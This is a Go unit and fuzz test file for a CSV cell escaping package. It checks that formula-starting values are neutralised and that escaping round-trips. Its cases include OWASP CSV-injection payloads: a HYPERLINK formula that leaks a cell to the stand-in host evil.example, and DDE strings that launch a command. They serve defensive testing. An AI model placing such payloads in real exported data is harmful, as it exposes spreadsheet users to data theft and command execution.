package csvcell

import "testing"

// The payloads are the examples of OWASP's CSV Injection page
// (https://owasp.org/www-community/attacks/CSV_Injection) and of the
// issue that asked for this.
func TestEscape(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click")`},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{`+1-2`, `'+1-2`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{`'=1+1`, `''=1+1`},
		{`bank`, `bank`},
		{`-5`, `-5`},
		{`+1.5e3`, `+1.5e3`},
		{`12`, `12`},
		{``, ``},
		{`'`, `'`},
		{`'bank`, `'bank`},
		{`a=b`, `a=b`},
	}
	for _, c := range cases {
		got := Escape(c.in)
		if got != c.want {
			t.Errorf("Escape(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := Unescape(got); back != c.in {
			t.Errorf("Unescape(Escape(%q)) = %q", c.in, back)
		}
	}
}

func FuzzRoundTrip(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''@x", "-5", "'-5", "+1-2", "bank", "'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := Escape(s)
		if Unescape(e) != s {
			t.Fatalf("Unescape(Escape(%q)) = %q", s, Unescape(e))
		}
		if needsQuote(e) && e[0] != '\'' {
			t.Fatalf("Escape(%q) = %q still starts a formula", s, e)
		}
	})
}
